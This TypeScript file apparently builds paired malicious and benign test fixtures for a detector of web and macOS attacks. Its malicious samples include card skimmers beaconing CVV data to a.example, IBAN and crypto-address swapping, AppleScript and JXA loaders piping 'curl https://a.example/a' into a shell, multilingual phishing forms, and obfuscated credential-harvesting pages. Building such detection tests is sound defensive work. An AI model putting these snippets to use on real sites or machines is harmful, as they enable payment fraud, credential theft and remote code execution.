/** Scripts of pages that take cards or exchange accounts, loaders for a Mac, and forms in other languages. */

import { page } from '../hidden-texts.ts'
import { writeZip } from '../zip-writer.ts'
import { type Pair, pairs } from './matrix.ts'

const file = (name: string, text: string): Uint8Array => writeZip([{ name, data: Buffer.from(text) }])
const script = (text: string): Uint8Array => file('app.js', text)

const FIELDS = `document.querySelectorAll('input').forEach(function(i){if(/cvv|card_number/.test(i.name))d[i.name]=i.value})`
const SKIMMERS = pairs([
  [
    'a picture',
    script(
      `(function(){var d={};setInterval(function(){${FIELDS};new Image().src='https://a.example/p?'+btoa(JSON.stringify(d))},900)})()`,
    ),
    script(`(function(){var d={};setInterval(function(){${FIELDS};document.title=d.cvv?'Ready':'Card'},900)})()`),
  ],
  [
    'a socket',
    script(
      `var w=new WebSocket(atob('d3NzOi8vYS5leGFtcGxlL3M=')),d={};document.addEventListener('change',function(){${FIELDS};w.send(JSON.stringify(d))})`,
    ),
    script(`var w=new WebSocket('wss://'+location.host+'/prices');w.onmessage=function(m){document.title=m.data}`),
  ],
  [
    'a beacon of a page',
    page(
      `<form action="/order"><input name="card_number"><input name="cvv"></form><script>var d={};document.addEventListener('change',function(){${FIELDS};navigator.sendBeacon('https://a.example/b',JSON.stringify(d))})</script>`,
    ),
    page(
      `<form action="/order"><input name="card_number"><input name="cvv"></form><script>navigator.sendBeacon('https://a.example/v',location.href)</script>`,
    ),
  ],
])

const IBAN = 'DE89370400440532013000'
const PATTERN = '/\\b[A-Z]{2}\\d{2}(?: ?[A-Z0-9]{4}){3,7}\\b/g'
const EXCHANGES = pairs([
  [
    'in the text of a page',
    script(`const a='${IBAN}';document.body.innerHTML=document.body.innerHTML.replace(${PATTERN},a)`),
    script(`document.body.innerHTML=document.body.innerHTML.replace(${PATTERN},'XXXX XXXX')`),
  ],
  [
    'in a form',
    script(`document.forms[0].addEventListener('submit',()=>{document.querySelector('[name=iban]').value='${IBAN}'})`),
    script(`document.querySelector('[name=iban]').placeholder='${IBAN}';const isValid=(s)=>${PATTERN}.test(s)`),
  ],
  [
    'of coins, in what is copied',
    page(
      `<p>Pay</p><script>document.addEventListener('copy',e=>{e.clipboardData.setData('text/plain','0x${'1'.repeat(40)}');e.preventDefault()})</script>`,
    ),
    page(
      `<p>Pay</p><script>document.querySelector('p').onclick=()=>navigator.clipboard.writeText('0x${'1'.repeat(40)}')</script>`,
    ),
  ],
])

const far = (text: string, sign = '//'): string => `${sign} Update\n${'\n'.repeat(200)}${text}`
const LOADERS = pairs([
  [
    'a task, in pieces',
    file(
      'a.scpt',
      far(
        `var p=["/bin/zsh -c 'cu","rl -s https://a.example/a"," | zsh'"].join("");var t=$.NSTask.alloc.init;t.launchPath="/bin/sh";t.arguments=["-c",p];t.launch;`,
      ),
    ),
    file('a.scpt', far(`var t=$.NSTask.alloc.init;t.launchPath="/usr/bin/sw_vers";t.launch;`)),
  ],
  [
    'AppleScript',
    file('a.applescript', far('do shell script "curl -s https://a.example/a | sh"', '--')),
    file('a.applescript', far('set ip to do shell script "curl -s https://api.ipify.org"', '--')),
  ],
  [
    'AppleScript, in pieces',
    file('a.applescript', 'set a to "cur" & "l -s https://a.example/a"\ndo shell script a & " | " & "sh"'),
    file('a.applescript', 'set a to "sw_" & "vers"\ndo shell script a'),
  ],
  [
    'a program that goes on',
    file(
      'a.scpt',
      `ObjC.import('stdlib');$.system('curl -s https://a.example/a -o /tmp/a; chmod +x /tmp/a; /tmp/a &')`,
    ),
    file('a.scpt', `ObjC.import('stdlib');$.system('rsync -a ~/Documents/ /Volumes/Backup/')`),
  ],
])

const form = (text: string, fields: readonly string[], more = ''): Uint8Array =>
  page(
    `<p>${text}</p><form id="f">${fields.map((name, i) => `<input id="i${i}" placeholder="${name}">`).join('')}<button>OK</button></form>${more}`,
  )
const sent = (address: string): string =>
  `<script>f.onsubmit=e=>{e.preventDefault();fetch('${address}',{method:'POST',body:new FormData(f)})}</script>`
const FORMS = pairs([
  [
    'Turkish, card',
    form(
      'Gönderiniz gümrük ücreti ödenmediği için teslim edilemedi.',
      ['Kart Numarası', 'AA/YY', 'CVV'],
      sent('https://a.example/i'),
    ),
    form('Sepetiniz', ['Kart Numarası', 'AA/YY', 'CVV'], sent('/odeme')),
  ],
  [
    'Greek, card',
    form('Το δέμα σας περιμένει πληρωμή τελωνείου.', ['Αριθμός κάρτας', 'CVV'], sent('https://a.example/i')),
    form('Το δέμα σας', ['Αριθμός αποστολής'], sent('https://a.example/i')),
  ],
  [
    'Dutch, bank',
    form('Uw bankpas verloopt.', ['IBAN', 'Pasnummer', 'Pincode'], sent('https://a.example/i')),
    form('Delivery in India', ['Name', 'City', 'Pincode'], sent('https://a.example/i')),
  ],
  [
    'Swedish, proof of identity',
    form('Du har pengar att få tillbaka. Legitimera dig med BankID.', ['ÅÅÅÅMMDD-XXXX'], sent('https://a.example/i')),
    form('Sök kurs. Du loggar in med BankID senare.', ['Kursnamn'], sent('https://a.example/i')),
  ],
  [
    'by a bot whose token is joined',
    form(
      'Giriş',
      ['E-posta', 'Şifre'],
      sent(`https://api.chat.example/bot'+['7100000000',':AAFiller-Filler_Filler-Filler'].join('')+'/sendMessage`),
    ),
    form(
      'Giriş',
      ['E-posta', 'Mesaj'],
      sent(`https://api.chat.example/bot'+['7100000000',':AAFiller-Filler_Filler-Filler'].join('')+'/sendMessage`),
    ),
  ],
])

/** A form as bytes of UTF-8 that a script changes back, in letters of Chinese. */
const ASKING =
  '<html><head><title>企业邮箱</title></head><body><h2>企业邮箱安全验证</h2><p>请输入邮箱密码。</p><form action="https://a.example/save" method="post"><input name="account"><input name="pwd" type="password"></form></body></html>'
const SHOWING =
  '<html><head><title>企业邮箱</title></head><body><h2>企业邮箱</h2><p>八月销售报告。</p><form><input name="q"></form></body></html>'
const coded = (text: string): string => Buffer.from(Buffer.from(text).map((byte) => byte ^ 9)).toString('base64')
const decodes = (text: string, shows: string): Uint8Array =>
  page(
    `<p>Please wait for the page.</p><iframe id="v"></iframe><script>var b=atob("${coded(text)}"),u=new Uint8Array(b.length);for(var i=0;i<b.length;i++)u[i]=b.charCodeAt(i)^9;var h=new TextDecoder().decode(u);${shows}</script>`,
  )
const FRAME = 'document.getElementById("v")'
const SHOWS: Readonly<Record<string, string>> = {
  'document.write': 'document.write(h)',
  'a bound function': 'var w=document.write.bind(document);w(h)',
  'a member': 'document.body.innerHTML=h',
  'the page of a frame': `${FRAME}.srcdoc=h`,
  'an attribute of a frame': `${FRAME}.setAttribute("srcdoc",h)`,
  'an attribute with its namespace': `${FRAME}.setAttributeNS(null,"srcdoc",h)`,
  'the document of a frame': `var d=${FRAME}.contentDocument;d.open();d.write(h);d.close()`,
  'the address of a frame': `${FRAME}.setAttribute("src","data:text/html;charset=utf-8,"+encodeURIComponent(h))`,
  'a coded address of a frame': `${FRAME}.src="data:text/html;base64,"+btoa(unescape(encodeURIComponent(h)))`,
  'a parser': 'document.body.append(Document.parseHTMLUnsafe(h).body)',
  'an element': 'document.body.setHTMLUnsafe(h)',
  'a library': '$("body").html(h)',
  'another function of the library': '$(document.body).append(h)',
}
const WRITTEN = pairs(
  Object.entries(SHOWS).map(([name, shows]) => [name, decodes(ASKING, shows), decodes(SHOWING, shows)]),
)

const ENTRIES =
  '<form><p>Ziraat</p><input id="a" placeholder="Müşteri No"><input id="b" type="password" placeholder="Şifre"><button type="button" id="g">Devam</button></form>'
const gives = (address: string, code: string): Uint8Array =>
  page(
    `${ENTRIES}<script>document.getElementById('g').onclick=function(){var q='${address}?a='+v('a')+'&b='+v('b');(new Image()).src=q};${code}</script>`,
  )
const READERS: Readonly<Record<string, [reads: string, counts: string]>> = {
  'a function': [
    'function v(x){return encodeURIComponent(document.getElementById(x).value)}',
    'function v(x){return encodeURIComponent(document.getElementById(x).id)}',
  ],
  'a function in a variable': [
    'var v=function(x){return document.getElementById(x).value}',
    'var v=function(x){return document.getElementById(x).id}',
  ],
  'an arrow': ['var v=x=>document.getElementById(x).value', 'var v=x=>document.getElementById(x).id'],
}
const BEACONS = pairs(
  Object.entries(READERS).map(([name, [reads, counts]]) => [
    name,
    gives('https://a.example/t.gif', reads),
    gives('/t.gif', counts),
  ]),
)

export const PAGE_THEFTS: Readonly<Record<string, readonly Pair[]>> = {
  'copied cards': SKIMMERS,
  'exchanged accounts': EXCHANGES,
  'loaders for a Mac': LOADERS,
  'forms in other languages': FORMS,
  'decoded forms, and how a page shows them': WRITTEN,
  'entries in the address of a picture, read by': BEACONS,
}
